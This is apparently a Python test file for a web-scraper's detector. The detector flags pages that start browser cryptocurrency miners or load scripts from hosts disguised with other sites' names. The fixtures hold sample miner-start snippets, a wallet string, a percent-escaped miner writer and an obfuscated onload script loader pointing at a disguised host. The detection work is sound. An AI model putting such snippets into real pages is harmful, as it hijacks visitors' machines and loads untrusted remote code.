"""What a loaded script DOES and how its host is dressed flags a page, whatever its host's TLD (v47
B1/B2): a browser miner started by the page (Coinhive's API and its clones under any global, or a
pool-direct kit given a Monero wallet), named by the library it loads; a script host dressed in other
sites' names, as a tag or as a load the code makes at onload. Vendor loaders that write their host
plainly, a namespace's ``User`` object and a host naming one publisher's account stay clean; the
article underneath is still read."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.behaviour import dressed_host
from scraper.clean.scripts import miner_start
from tests.clean.test_structural import BODY, URL, page

ARTICLE = "城乡环境综合整治是一项民心工程"
WALLET = "4" + "A" + "9" * 20 + "abcdefghijkmnopqrstuvwxyz" * 2 + "BCDEFGHJKLMNPQRSTUVWXYZ12345678"[:23]


def _where(a, words: str) -> str:
    return next((f.evidence for f in a.findings if words in f.where), "")


def test_three_miner_kits_each_flag_the_page_by_their_library():
    assert len(WALLET) == 95
    kits = {  # (head markup, the library the finding names)
        "coinimp": ('<script src="https://www.hostingcloud-lib.com/Bxyz.js"></script><script>'
                    "var _client = new Client.Anonymous('a1b2c3d4e5f6', {throttle: 0.2, c: 'w'}); _client.start();"
                    "</script>", "https://www.hostingcloud-lib.com/Bxyz.js"),
        "cryptoloot": ('<script src="https://statdynamic.com/lib/crypta.js"></script><script>'
                       "var miner=new CRLT.Anonymous('9f8e7d6c5b4a',{threads:3,autoThreads:false,throttle:0.2});"
                       "miner.start();</script>", "https://statdynamic.com/lib/crypta.js"),
        "pool wallet": ('<script src="https://karma-static.com/karma/karma.js?karma=bs"></script><script>'
                        f"EverythingIsLife('{WALLET}', 'x', 50);</script>", "https://karma-static.com/karma/karma.js?karma=bs"),
    }
    for kit, (markup, library) in kits.items():
        a = clean_page(page(body=BODY + markup), url=URL)
        assert a.hijacked and _where(a, "starts a browser miner") == library, (kit, a.findings)
        assert ARTICLE in a.text


def test_a_miner_written_in_percent_escapes_is_read_as_written():
    import urllib.parse
    tags = ("<script src='https://cdn.brookvale-t.com/js/status.js'></script>"
            "<script>var m = new CoinHive.User('43jNbyRQo93Kmzcf', 'www.brookvale-t.com'); m.start();</script>")
    writer = f"<script>document.write(unescape('{urllib.parse.quote(tags)}'));</script>"
    a = clean_page(page(body=BODY + writer), url=URL)
    assert _where(a, "starts a browser miner"), a.findings


def test_names_shaped_like_a_miner_but_starting_none_stay_clean():
    assert miner_start("var u = new NYTD.Blogs.User('', ''); player.start();") is None  # a namespace path
    assert miner_start('new Echo.User({"appkey": "dev.x.com"}); s.start();') is None  # no key
    assert miner_start("var miner = new CoinHive.Anonymous('k');") is None  # built, never started
    text = "<pre>var miner = new CoinHive.Anonymous('KEY'); miner.start();</pre>"  # an article quoting it
    assert not clean_page(page(body=BODY + text), url=URL).hijacked


def test_vendor_loaders_writing_their_host_plainly_stay_clean():
    vendors = [
        "var _hmt=_hmt||[];(function(){var hm=document.createElement('script');"
        "hm.src='https://hm.baidu.com/hm.js?0123456789abcdef';var s=document.getElementsByTagName('script')[0];"
        "s.parentNode.insertBefore(hm,s);})();",
        "(function(){var ga=document.createElement('script');ga.async=true;ga.src=('https:'=="
        "document.location.protocol?'https://ssl':'http://www')+'.google-analytics.com/ga.js';"
        "document.getElementsByTagName('head')[0].appendChild(ga);})();",
        "var cnzz_protocol=(('https:'==document.location.protocol)?'https://':'http://');"
        "var e=document.createElement('script');e.src=cnzz_protocol+'s4.'+'cnzz.com/z_stat.php%3Fid%3D1'.replace('%3F','?')"
        ".replace('%3D','=');document.body.appendChild(e);",
    ]
    for code in vendors:
        a = clean_page(page(body=BODY + f"<script>{code}</script>"), url=URL)
        assert not a.hijacked, (code, a.findings)


def test_a_script_host_dressed_in_other_sites_names_flags_the_page():
    assert dressed_host("target-com.19lou.com.nih-gov.brookvale.ru") == "other sites"
    assert dressed_host("cnn-com.bbc.co.uk-tw.yahoo-co-jp.brookvale.com") == "other sites"
    assert dressed_host("nypost-com.videoplayerhub.com") is None  # one publisher's account
    assert dressed_host("www.example.com.edgesuite.net") is None
    tag = '<script src="https://espn-com.imdb.com.cdn.brookvale-t.com/lib/x.js"></script>'
    a = clean_page(page(body=BODY + tag), url=URL)
    assert a.hijacked and _where(a, "dressed as other sites"), a.findings
    made = ("<script>window.onload=function(){var s=document.createElement('script');"
            "s.setAttribute('src','h!t!t!p:/!/!w!s!j-com.n!y!t!i!m!e!s-com.l!e!m!o!n!.!b!i!z:8080/a/'.replace(/!/g,''));"
            "document.body.appendChild(s);};</script>")
    a = clean_page(page(body=BODY + made), url=URL)
    assert _where(a, "dressed as other sites") == "http://wsj-com.nytimes-com.lemon.biz:8080/a/", a.findings
    assert ARTICLE in a.text
